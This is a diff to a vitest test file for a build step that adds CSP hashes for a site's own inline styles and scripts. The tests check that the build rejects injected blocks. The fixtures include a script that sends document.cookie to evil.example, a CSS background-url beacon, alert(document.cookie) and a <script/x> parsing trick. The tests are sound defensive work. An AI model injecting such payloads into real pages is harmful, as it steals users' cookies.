@@ -1,6 +1,6 @@
 import { createHash } from 'node:crypto';
 import { describe, expect, test } from 'vitest';
-import { hashHeaders, hashPage, inlineScripts, inlineStyles, sourceHash, withHashes } from '../../src/lib/inline-hashes';
+import { hashHeaders, hashPage, inlineScripts, inlineStyles, isConcatenationOf, sourceHash, withHashes, type KnownInline } from '../../src/lib/inline-hashes';
 
 const POLICY = "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:";
 const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
@@ -43,22 +43,64 @@ describe('withHashes', () => {
   });
 });
 
+describe('isConcatenationOf', () => {
+  test.each([
+    ['a{}', ['a{}'], true],
+    ['a{}b{}', ['a{}', 'b{}'], true],
+    ['b{}a{}b{}', ['a{}', 'b{}'], true],
+    ['a{}b', ['a{}', 'b{}'], false],
+    ['a{}x{}', ['a{}', 'b{}'], false],
+    ['', ['a{}'], false],
+    ['aab', ['a', 'aa', 'ab'], true],
+  ])('%j of %j: %s', (text, pieces, expected) => {
+    expect(isConcatenationOf(text, pieces)).toBe(expected);
+  });
+});
+
 describe('hashPage', () => {
-  const page = (head: string) => `<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${POLICY}">${head}</head><body></body></html>`;
+  const page = (head: string, body = '') =>
+    `<html><head><meta charset="utf-8"><meta http-equiv="Content-Security-Policy" content="${POLICY}">${head}</head><body>${body}</body></html>`;
+  const known: KnownInline = { styles: ['a{}', 'b{}'], scripts: new Set(['go()']) };
 
   test('names each inline stylesheet and script of the page in its <meta> policy', () => {
     const head = '<style>a{}</style><style>b{}</style><script type="module">go()</script>';
-    const { html, hashes } = hashPage(page(head), 'index.html');
+    const { html, hashes } = hashPage(page(head), 'index.html', known);
     expect(hashes).toEqual({ styles: [sha('a{}'), sha('b{}')], scripts: [sha('go()')] });
     expect(html).toBe(page(head).replace("style-src 'self'", `style-src 'self' ${sha('a{}')} ${sha('b{}')}`).replace("script-src 'self'", `script-src 'self' ${sha('go()')}`));
   });
 
-  test('leaves a page without inline styles or scripts as it is', () => {
-    expect(hashPage(page('<script src="/a.js"></script>'), 'index.html')).toEqual({ html: page('<script src="/a.js"></script>'), hashes: { styles: [], scripts: [] } });
+  test('allows a stylesheet that merges several of the bundle’s chunks, as Astro writes them', () => {
+    expect(hashPage(page('<style>a{}b{}a{}</style>'), 'index.html', known).hashes.styles).toEqual([sha('a{}b{}a{}')]);
+  });
+
+  test('leaves a page without inline styles or scripts as it is, and JSON-LD data unhashed', () => {
+    const head = '<script src="/a.js"></script><script type="application/ld+json">{"@type":"Article"}</script>';
+    expect(hashPage(page(head), 'index.html', known)).toEqual({ html: page(head), hashes: { styles: [], scripts: [] } });
+  });
+
+  test.each([
+    ['an injected <script>', '', '<p>x</p><script>alert(document.cookie)</script>', '<script> "alert(document.cookie)"'],
+    ['an injected module script', '', '<script type="module">fetch("https://evil.example/?"+document.cookie)</script>', '<script> "fetch(\\"https://evil.example/?\\"+document.cookie)"'],
+    ['the site script without type="module"', '', '<script>go()</script>', '<script> "go()"'],
+    ['an injected <style>', '<style>a{}</style>', '<style>body{display:none}</style>', '<style> "body{display:none}"'],
+    ['a stylesheet that only starts like the site’s', '<style>a{}.x{background:url(//evil.example/t)}</style>', '', '<style> "a{}.x{background:url(//evil.example/t)}"'],
+    ['a script file with inline code too', '', '<script src="/a.js">alert(1)</script>', '<script> "alert(1)"'],
+    ['a JSON-LD block that is not JSON', '', '<script type="application/ld+json">alert(1)</script>', '<script> "alert(1)"'],
+    ['a script whose tag has no space before "/"', '', '<script/x>alert(1)</script>', '<script> "alert(1)"'],
+    ['a <style> with no end tag', '', '<style>body{display:none}', '<style> "<style>body{display:none}</body></html>"'],
+  ])('stops the build on %s, naming the page and the block’s first characters', (_name, head, body, what) => {
+    expect(() => hashPage(page(head, body), 'waic/index.html', known)).toThrow(
+      new Error(`waic/index.html: Unexpected inline ${what}: expected only the stylesheets and scripts the site's own build inlines (docs/security.md, the CSP contract)`),
+    );
+  });
+
+  test('shows at most 60 characters of the refused block', () => {
+    const code = `alert(${'1'.repeat(100)})`;
+    expect(() => hashPage(page('', `<script>${code}</script>`), 'index.html', known)).toThrow(`Unexpected inline <script> "${code.slice(0, 60)}…"`);
   });
 
   test('stops on a page with inline code and no policy, naming the file', () => {
-    expect(() => hashPage('<head><script>go()</script></head>', 'speakers/x/index.html')).toThrow(
+    expect(() => hashPage('<head><script type="module">go()</script></head>', 'speakers/x/index.html', known)).toThrow(
       /^speakers\/x\/index\.html: expected a <meta http-equiv="Content-Security-Policy"> to allow its inline styles and scripts, found none$/,
     );
   });
